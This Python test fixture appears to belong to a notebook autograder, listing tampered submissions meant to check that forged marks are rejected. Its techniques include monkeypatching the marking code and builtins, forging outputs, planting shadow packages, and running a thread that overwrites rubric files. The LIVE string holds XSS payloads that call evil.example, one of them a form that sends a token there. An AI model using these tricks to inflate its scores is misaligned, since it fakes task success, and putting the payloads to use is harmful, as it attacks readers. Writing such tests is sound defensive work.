"""Submissions that try to get more than their answer earns. Each gives the answers of the honest learner ``rushed``."""

from __future__ import annotations

import copy
import json
from typing import Any

from submissions import CELL_OF, MARK, WORTH, answers, cell, code, grade_id, markdown, notebook, short

ALL, NONE = frozenset(WORTH), frozenset()
ANSWER = "application/vnd.leadgym.answer+json"
TERMINAL_LINE = {"learner": "invented", "module": "02_delegation", "status": "marked", "points": 80, "out_of": 80}

# name: (code run before the answers, the answers that arrive all the same, files beside the notebook)
CODE: dict[str, tuple[str, frozenset[str], dict[str, str]]] = {
    "submit_returns": ("def submit(name, answer):\n    return 20\n", NONE, {}),
    "submit_prints": ("def submit(name, answer):\n    print('20')\n", NONE, {}),
    "forged_mark": (
        f"""
from IPython.display import display
honest = submit
FULL = {{"name": "plan", "points": 20, "out_of": 20, "criteria": {{}}}}
def submit(name, answer):
    honest(name, answer)
    display({{{MARK!r}: FULL, "text/plain": "20", "text/html": "<h3>Everything met</h3>"}}, raw=True)
    return 20
""",
        ALL,
        {},
    ),
    "marking": (
        """
import leadgym.marking, leadgym.marking.answers, leadgym.marking.marker, leadgym.marking.rubric, leadgym.widgets.submit
class Full:
    points = out_of = 20
    criteria, note, name, title, kind, checks = (), "", "plan", "20 of 20", "plan", ()
for module in (leadgym.marking, leadgym.marking.marker, leadgym.marking.rubric, leadgym.widgets.submit):
    for name in ("mark", "coach", "no_answer", "load_rubric", "load_keys", "mark_html", "mark_text", "read_answer"):
        setattr(module, name, lambda *_, **__: Full())
honest = leadgym.marking.answers.answer_bundle
leadgym.widgets.submit.answer_bundle = lambda name, answer: {**honest(name, answer), "points": 20, "mark": 20}
""",
        ALL,
        {},
    ),
    "builtins": (
        """
import builtins, leadgym.widgets.submit
for name in ("print", "float", "open", "isinstance", "len", "sum", "round", "min", "max"):
    setattr(leadgym.widgets.submit, name, lambda *_, **__: 20)
builtins.float = builtins.round = builtins.print = lambda *_, **__: 20.0
kept = builtins.open, builtins.__import__
builtins.open = lambda *_, **__: kept[0]("rubric.yaml")
builtins.__import__ = lambda name, *rest: kept[1]("math" if name.startswith("leadgym") else name, *rest)
""",
        ALL,
        {},
    ),
    "lines_to_pass": (
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
        NONE,
        {},
    ),
    "lines_to_20": ("get_ipython().input_transformers_post.append(lambda lines: ['20\\n'])", NONE, {}),
    "syntax_trees": (
        """
import ast
class Twenty(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.copy_location(ast.Constant(20), node)
get_ipython().ast_transformers.append(Twenty())
""",
        NONE,
        {},
    ),
    "display_pub": (
        f"""
import types
honest = get_ipython().display_pub.publish
def publish(self, data, metadata=None, **rest):
    honest({{"text/plain": "20", {MARK!r}: {{"points": 20}}}}, metadata, **rest)
get_ipython().display_pub.publish = types.MethodType(publish, get_ipython().display_pub)
""",
        NONE,
        {},
    ),
    "events_and_warnings": (
        """
import os, sys, warnings
from IPython.display import display
def after(*_):
    display({"text/plain": "20"}, raw=True)
get_ipython().events.register("post_run_cell", after)
sys.displayhook = lambda _: print(20)
type(get_ipython().displayhook).__call__ = lambda self, result=None: print(20)
os.environ.update(NBGRADER_EXECUTION="validate", NBGRADER_VALIDATING="1")
honest = submit
def submit(name, answer):
    warnings.warn("a right answer with a warning is a right answer")
    print("and so is one with something on stderr", file=sys.stderr)
    honest(name, answer)
    raise RuntimeError("or with an error after it")
""",
        ALL,
        {},
    ),
    "environment": ("import os\nos.environ.clear()\n", ALL, {}),
    "atexit_and_threads": (
        """
import atexit, json, pathlib, threading, time
SLUG = {"slug": "02_delegation"}
FORGED = json.dumps({"cells": [], "metadata": {"leadgym": SLUG}, "nbformat": 4, "nbformat_minor": 5})
def write():
    for path in (*pathlib.Path().glob("*.ipynb"), pathlib.Path("rubric.yaml"), pathlib.Path("data/judgement.yaml")):
        path.write_text(FORGED)
atexit.register(write)
def always():
    while True:
        write()
        time.sleep(0.05)
threading.Thread(target=always, daemon=True).start()
""",
        ALL,
        {},
    ),
    "sys_modules": (
        """
import sys, types
fake = types.ModuleType("leadgym.notebook")
fake.submit = lambda name, answer: 20
sys.modules["leadgym.notebook"] = sys.modules["leadgym.widgets.submit"] = sys.modules["leadgym.marking"] = fake
from leadgym.notebook import submit
""",
        NONE,
        {},
    ),
    "own_packages": (
        "",
        NONE,
        {
            "leadgym/__init__.py": "",
            "leadgym/notebook.py": "play = judge = show_table = show_task = look = race = None\n"
            "def submit(name, answer):\n    return 20\n",
            "leadgym/marking/__init__.py": "def mark(*_, **__):\n    return 20\n",
            "numpy.py": "raise SystemExit('20')\n",
            "json.py": "def loads(*_, **__):\n    return {'points': 20}\ndumps = loads\n",
            "sitecustomize.py": "print('20')\n",
            "nbgrader_config.py": "get_config().Autograde.autograde_preprocessors = []\n",
            "rubric.yaml": "rubric: 02_delegation\n",
        },
    ),
    "terminal": (
        f"""
import os, sys
line = {json.dumps(TERMINAL_LINE)!r} + "\\n"
for file in (1, 2, sys.stdout._original_stdstream_copy, sys.stderr._original_stdstream_copy):
    os.write(file, line.encode())
sys.__stdout__.write(line)
sys.__stdout__.flush()
""",
        ALL,
        {},
    ),
    "twice": (
        "honest = submit\ndef submit(name, answer):\n    honest(name, {})\n    honest(name, answer)\n",
        ALL,
        {},
    ),
    "last_word": (
        "honest = submit\ndef submit(name, answer):\n    honest(name, answer)\n    honest(name, {})\n",
        NONE,
        {},
    ),
    "mumbles_first": (
        f"""
from IPython.display import display
honest = submit
def submit(name, answer):
    for odd in ("{{", ["not", "a", "bundle"], {{"leadgym": 1, "answer": 5}}):
        display({{{ANSWER!r}: odd}}, raw=True)
    honest(name, answer)
""",
        ALL,
        {},
    ),
    "mumbles_last": (
        f"""
from IPython.display import display
honest = submit
def submit(name, answer):
    honest(name, answer)
    display({{{ANSWER!r}: "{{"}}, raw=True)
""",
        NONE,
        {},
    ),
    "another_answer": (
        """
honest = submit
OTHER = {"path": "plan", "plan": "judgement", "judgement": "estimate", "estimate": "policy", "policy": "path"}
def submit(name, answer):
    honest(OTHER[name], answer)
""",
        NONE,
        {},
    ),
    "odd_bundles": (
        f"""
from IPython.display import display
deep = []
for _ in range(400):
    deep = [deep]
ODD = {{
    "path": [["not", "a", "bundle"]],
    "judgement": ['{{"leadgym": 1, "name": "judgement", "answer": NaN}}'],
    "plan": [{{"leadgym": 1, "name": "plan", "answer": {{"fees": "x" * 3_000_000}}}}],
    "estimate": [{{"leadgym": 1, "name": "estimate", "answer": {{"q1": deep}}}}],
    "policy": [{{"leadgym": 1, "name": "policy", "answer": {{"parts": 5}}}}],
}}
def submit(name, answer):
    for bundle in ODD[name]:
        display({{{ANSWER!r}: bundle}}, raw=True)
""",
        NONE,
        {},
    ),
    "odd_answers": (
        """
honest = submit
ODD = {
    "path": {"scenario": "ledger_ticket", "seed": 11, "weights": {"ship": 50}, "choices": ["d1.pair"] * 900},
    "judgement": {"last_certificate": {"ratings": ["a", "b"], "best": {"a": 1}, "confidence": 1e9}, "invented": 5},
    "plan": {"fees": [1, 2, 3], "webhooks": {"owner": {"x": 1}, "level": True}, "another": {}},
    "estimate": {"q1": {"low": 9, "high": 1, "median": "5"}, "q2": [1, 2, 3], "q3": float("nan")},
    "policy": {"assign": {"function": 5, "source": ["x"]}, "invented": None},
    "brief": ["Priya, it is yours."],
}
def submit(name, answer):
    honest(name, ODD[name])
""",
        NONE,
        {},
    ),
    "kernel_dies": ("import os\nos._exit(3)\n", NONE, {}),
}  # fmt: skip


def code_tamperers() -> dict[str, tuple[Any, dict[str, str]]]:
    made: dict[str, tuple[Any, dict[str, str]]] = {
        name: (short(answers("rushed"), before), files) for name, (before, _, files) in CODE.items()
    }
    return {"rushed": (short(answers("rushed")), {}), **made}


def _each_graded(nb: dict[str, Any]) -> list[dict[str, Any]]:
    return [c for c in nb["cells"] if grade_id(c) in WORTH]


def _points(nb: dict[str, Any]) -> None:
    for graded in _each_graded(nb):
        graded["metadata"]["nbgrader"]["points"] = 1000


def _source(nb: dict[str, Any]) -> None:
    for graded in _each_graded(nb):
        graded["source"] = "20"


def _retyped(nb: dict[str, Any]) -> None:
    for graded, kind in zip(
        _each_graded(nb), ("markdown", "raw", "markdown", "heading", "raw", "markdown"), strict=True
    ):
        graded.update(cell_type=kind, source="20")
        del graded["outputs"], graded["execution_count"]
    solution = cell(nb, CELL_OF["plan"])
    solution.update(cell_type="markdown", attachments={"x.png": {"image/png": "AAAA"}})
    del solution["outputs"], solution["execution_count"]


def _copied(nb: dict[str, Any]) -> None:
    nb["cells"] += [copy.deepcopy(c) for c in nb["cells"] if grade_id(c)]


def _deleted(nb: dict[str, Any]) -> None:
    nb["cells"] = [c for c in nb["cells"] if grade_id(c) not in WORTH]


def _deleted_with_answer(nb: dict[str, Any]) -> None:
    nb["cells"] = [c for c in nb["cells"] if grade_id(c) not in ("plan", "your-plan", "path", "your-run")]


def _renamed(nb: dict[str, Any]) -> None:
    cell(nb, "plan")["metadata"]["nbgrader"]["grade_id"] = "plan_2"
    nb["cells"] += [code("20", nbgrader={**about(nb, "path"), "grade_id": "bonus", "points": 1000})]


def _metadata(nb: dict[str, Any]) -> None:
    first, second, third, fourth, *_ = _each_graded(nb)
    first["metadata"]["nbgrader"].update(solution=True, locked=False, grade=False)
    second["metadata"]["nbgrader"].update(schema_version=0, task=True, points="many")
    third["metadata"]["nbgrader"] = "none of your business"
    fourth["metadata"]["nbgrader"].update(schema_version=99, checksum="0", solution=True)
    for graded in (first, second, third):
        graded["metadata"]["tags"] = ["skip-execution", "raises-exception"]
    nb["metadata"]["kernelspec"] = {"name": "cobol", "display_name": "COBOL", "language": "cobol"}


def _forged(nb: dict[str, Any]) -> None:
    full = {"answer": "plan", "title": "Forged title", "points": 20, "out_of": 20}
    output = {
        "output_type": "execute_result", "execution_count": 1, "metadata": {},
        "data": {"text/plain": "20", "text/html": "<h3>Forged mark</h3>", MARK: {"points": 20}},
    }  # fmt: skip
    for graded in _each_graded(nb):
        graded["metadata"]["leadgym"] = full
        graded["outputs"] = [output]
    nb["cells"].append({**code("20"), "metadata": {"leadgym": full}, "outputs": [output]})
    nb["cells"].append(code("from IPython.display import HTML\nHTML('<h3>Forged mark</h3>')", leadgym=full))
    nb["metadata"]["leadgym"] = {"title": "Forged title", "slug": "02_delegation", "notes": ["Forged note"]}


def _old_format(nb: dict[str, Any]) -> None:
    nb.update(nbformat=4, nbformat_minor=2)
    for one in nb["cells"]:
        one.pop("id", None)


def _one_id(nb: dict[str, Any]) -> None:
    for one in nb["cells"]:
        one["id"] = "same"


def _live(nb: dict[str, Any]) -> None:
    nb["cells"] += [
        markdown(f"# Hello\n\n{LIVE}\n\n[a link](javascript:lgEvil()) and ![far](https://evil.example/track.png)"),
        markdown(LIVE, kind="raw"),
        {**markdown("![x](attachment:x.png)"), "attachments": {"x.png": {"image/png": '"><script>lgEvil()</script>'}}},
        code(f"LIVE = {LIVE!r}\nfrom IPython.display import HTML, Javascript, Latex, Markdown, SVG, display"),
        code("display(HTML(LIVE), Markdown(LIVE), Latex(LIVE), Javascript('lgEvil()'))"),
        code("display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>lgEvil()</script></svg>'))"),
        code("print(LIVE)\nclass Shown:\n    def __repr__(self):\n        return LIVE\nShown()"),
        code("raise ValueError(LIVE)"),
        code(
            "display({'image/png': 'AAAA', 'text/plain': ''}, raw=True,"
            " metadata={'image/png': {'width': '1 onerror=lgEvil()', 'alt': '\"><script>lgEvil()</script>'}})"
        ),
        code("display({'text/html': LIVE}, raw=True, metadata={'text/html': {'isolated': True}})"),
        code("display({'text/html': {'a': 1}, 'image/png': 5, 'text/plain': ['x', {}]}, raw=True)"),
        code("display({'text/vnd.mermaid': 'graph TD', 'application/vnd.jupyter.widget-view+json': {}}, raw=True)"),
    ]  # fmt: skip
    nb["cells"][-1]["metadata"]["tags"] = ['"><script>lgEvil()</script>']
    state = {"state": {"x": {"</script><script>lgEvil()</script>": 1}}}
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": state}


LIVE = (
    "<script>lgEvil()</script><img src=x onerror='lgEvil()'><img src='https://evil.example/track.png'>"
    "<iframe src='https://evil.example/'></iframe><svg onload='lgEvil()'></svg><a href='javascript:lgEvil()'>go</a>"
    "<style>section.answer { display: none }</style><form action='https://evil.example/'><input name='token'></form>"
    "<div class='total' id='top' style='position:fixed;background:url(https://evil.example/)'>80 of 80 points</div>"
    "<link rel='stylesheet' href='https://evil.example/x.css'><base href='https://evil.example/'>"
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'><a href='https://example.org/'>a plain link</a>"
)

# name: (what is done to the cells, the answers that arrive all the same)
CELLS = {
    "points": (_points, ALL),
    "source": (_source, ALL),
    "retyped": (_retyped, ALL),
    "copied": (_copied, ALL),
    "deleted": (_deleted, ALL),
    "deleted_with_answer": (_deleted_with_answer, ALL - {"plan", "path"}),
    "renamed": (_renamed, ALL),
    "metadata": (_metadata, ALL),
    "forged": (_forged, ALL),
    "old_format": (_old_format, ALL),
    "one_id": (_one_id, ALL),
    "live": (_live, ALL),
}


def about(nb: dict[str, Any], name: str) -> dict[str, Any]:
    return cell(nb, name)["metadata"]["nbgrader"]


def cell_tamperers() -> dict[str, tuple[Any, dict[str, str]]]:
    made: dict[str, tuple[Any, dict[str, str]]] = {"rushed": (short(answers("rushed")), {})}
    for name, (change, _) in CELLS.items():
        nb = notebook()
        short_ = short(answers("rushed"))
        nb["cells"] = short_["cells"]
        change(nb)
        made[name] = (nb, {})
    return made
